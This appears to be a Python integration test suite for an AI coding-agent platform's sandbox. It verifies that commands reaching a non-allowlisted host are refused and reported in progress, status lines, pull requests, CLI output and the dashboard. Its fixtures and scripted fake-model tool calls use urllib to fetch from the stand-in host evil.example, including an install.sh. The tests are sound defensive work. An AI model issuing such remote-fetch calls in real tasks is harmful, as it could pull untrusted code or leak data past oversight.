"""A blocked attempt, from the real sandbox to where a person decides (real bubblewrap, the real
egress proxies): a command reaching for a host that is not in the allowlist is refused, and
what it tried — host, port, the command, how often — is in its result at the end and in its
progress while it still runs. A running loop's status line shows it live. In a coding task,
two such commands are summed on the draft pull request's approval card, in the pull request,
in `openloop explain` and on the dashboard's task page."""

from __future__ import annotations

import asyncio
import time
import uuid
from pathlib import Path

import httpx
from temporalio.client import Client
from typer.testing import CliRunner

from activities.loops.sandbox import Progress, SandboxRun, run_sandboxed
from surfaces.app import create_app
from surfaces.cli.loop_follow import heartbeat, progress_view
from surfaces.cli.loop_views import running_line
from surfaces.cli.main import app
from tests.fakes.model_api import FakeModelAPI, tool_call
from tests.helpers import approve_when_pending
from tests.integration.coding_env import FIX, coding_world, result_of
from tests.integration.dashboard_env import sign_in
from tests.integration.loop_env import PYTEST, loop_world, project_with
from workers.embedded import TemporalDevServer
from workflows.egress_blocked import BlockedTally, CommandEgress, short_command
from workflows.loop_types import (
    LOOP_WORKFLOW_NAME,
    Limits,
    LoopInput,
    LoopResult,
    Outcome,
    Sandbox,
    Step,
    WorkerTimeouts,
)
from workflows.types import TaskStatus

# Tries evil.example over HTTPS (a CONNECT through the proxy) twice, then stays running a while.
PROBE = """\
import time, urllib.request
for _ in range(2):
    try:
        urllib.request.urlopen("https://evil.example/install.sh", timeout=10)
    except Exception as error:
        print("refused:", error, flush=True)
time.sleep(1.5)
"""
REACH = "python -c \"import urllib.request as u; u.urlopen('https://evil.example/x', timeout=10)\""
LINE = "blocked: evil.example:443 from `python -c` ×2 (not in the allowlist)"


async def test_a_refused_host_is_reported_with_its_port_command_and_count_while_and_after_it_runs(
    tmp_path: Path,
) -> None:
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    (workspace / "probe.py").write_text(PROBE)
    command = "python -m probe"
    seen: list[Progress] = []
    run = SandboxRun(
        command, workspace, {}, Limits(command_timeout_s=60, stall_timeout_s=30),
        Sandbox(network=["pypi.org"]), tmp_path / "command.log",
    )  # fmt: skip
    ended = await run_sandboxed(run, seen.append, progress_every_s=0.2)

    assert ended.outcome is Outcome.PASSED and ended.sandboxed, ended.tail
    assert ended.tail.count("refused:") == 2 and "403" in ended.tail
    assert ended.egress is not None
    [blocked] = ended.egress.blocked
    assert (blocked.host, blocked.port, blocked.count, blocked.reason) == (
        "evil.example",
        443,
        2,
        "not in the allowlist",
    )
    assert blocked.first_at and blocked.last_at >= blocked.first_at
    # While it slept after its attempts, its progress already told them.
    live = [p.egress for p in seen if p.egress is not None and p.egress.blocked]
    assert live and live[-1].blocked[0].count == 2
    tally = BlockedTally().add(CommandEgress(command=short_command(command), report=ended.egress), 1)
    assert tally.lines() == ["blocked: evil.example:443 from `python -m probe` ×2 (not in the allowlist)"]


async def test_a_running_loops_status_shows_what_its_command_was_refused_so_far(
    client: Client, pg_url: str, tmp_path: Path
) -> None:
    project = project_with(tmp_path, **{"probe.py": PROBE.replace("time.sleep(1.5)", "time.sleep(8)")})
    limits = Limits(total_rounds=1, command_timeout_s=60, stall_timeout_s=30, memory_mb=1024)
    async with loop_world(client, pg_url, tmp_path, project) as world:
        spec = world.spec(
            {Step.VERIFY: "python probe.py"}, sandbox=Sandbox(network=["pypi.org"]), limits=limits
        )
        loop_id = f"loop-test-{uuid.uuid4().hex[:8]}"
        # Beats reach the server at most every 0.8 of the heartbeat timeout: a short one, to see it live.
        started = LoopInput(
            loop_id=loop_id, spec=spec, loop_queue=world.settings.loop_task_queue,
            timeouts=WorkerTimeouts(heartbeat_s=2.0),
        )  # fmt: skip
        handle = await client.start_workflow(
            LOOP_WORKFLOW_NAME,
            started,
            id=loop_id,
            task_queue=world.settings.task_queue,
            result_type=LoopResult,
        )
        shown, deadline = "", time.monotonic() + 30
        while "blocked" not in shown and time.monotonic() < deadline:
            view, beat = await progress_view(handle), await heartbeat(client, handle)
            shown = running_line(view, beat).plain if view is not None and beat else ""
            await asyncio.sleep(0.2)
        await handle.result()

    assert shown.startswith("round 1 · verify · ") and shown.endswith("blocked: evil.example:443 ×2"), shown


def _script(api: FakeModelAPI, repo: str) -> None:
    """Open, fix, run a command that reaches for evil.example twice, test, propose."""
    api.answer_tool_calls([tool_call("c1", "code__open_workspace", {"repo": repo})])
    api.answer_tool_calls([tool_call("c2", "code__edit_file", FIX)])
    api.answer_tool_calls([tool_call("c3", "code__run", {"command": REACH})])
    api.answer_tool_calls([tool_call("c4", "code__run", {"command": REACH})])
    api.answer_tool_calls([tool_call("c5", "code__run_tests", {})])
    api.answer_tool_calls(
        [tool_call("c6", "github__create_pull_request", {"title": "Fix calc.mean", "body": "Divide by n."})]
    )
    api.answer("Proposed the fix.")


async def test_a_coding_tasks_card_pull_request_explain_and_page_list_what_was_blocked(
    client: Client, pg_url: str, tmp_path: Path, api: FakeModelAPI, dev_server: TemporalDevServer
) -> None:
    async with coding_world(client, pg_url, tmp_path) as world:
        _script(api, world.repo)
        coding = {
            "verify": PYTEST,
            "limits": {"command_timeout": "2m", "memory": "1Gi"},
            "sandbox": {"network": ["pypi.org"]},
        }
        agent = await world.agent(coding=coding)
        handle = await world.start(agent, f"test_mean fails on main in {world.repo}; fix it")
        pending = await approve_when_pending(handle)
        result = await result_of(handle)
        (pull,) = world.pulls()

        env = {"OPENLOOP_TEMPORAL_ADDRESS": dev_server.address, "COLUMNS": "250"}
        explained = await asyncio.to_thread(lambda: CliRunner().invoke(app, ["explain", handle.id], env=env))
        dashboard = create_app(world.settings, client)
        async with httpx.AsyncClient(
            transport=httpx.ASGITransport(app=dashboard), base_url="http://dash.test"
        ) as web:
            web.app_settings = world.settings  # type: ignore[attr-defined]
            await sign_in(web, "U_CAROL", "viewer")
            page = await web.get(f"/dashboard/tasks/{handle.id}")

    assert result.status == TaskStatus.SUCCESS, result
    # Two commands, one attempt each: one line, summed, naming the command.
    assert pending.arguments["blocked"] == [LINE]
    assert f"- The sandbox's network allowlist refused:\n  - {LINE}\n" in pull["body"]
    assert explained.exit_code == 0, explained.output
    assert f"The sandbox's network allowlist refused:\n  {LINE}" in explained.output
    assert page.status_code == 200, page.text
    assert "Blocked by the sandbox" in page.text and LINE in page.text
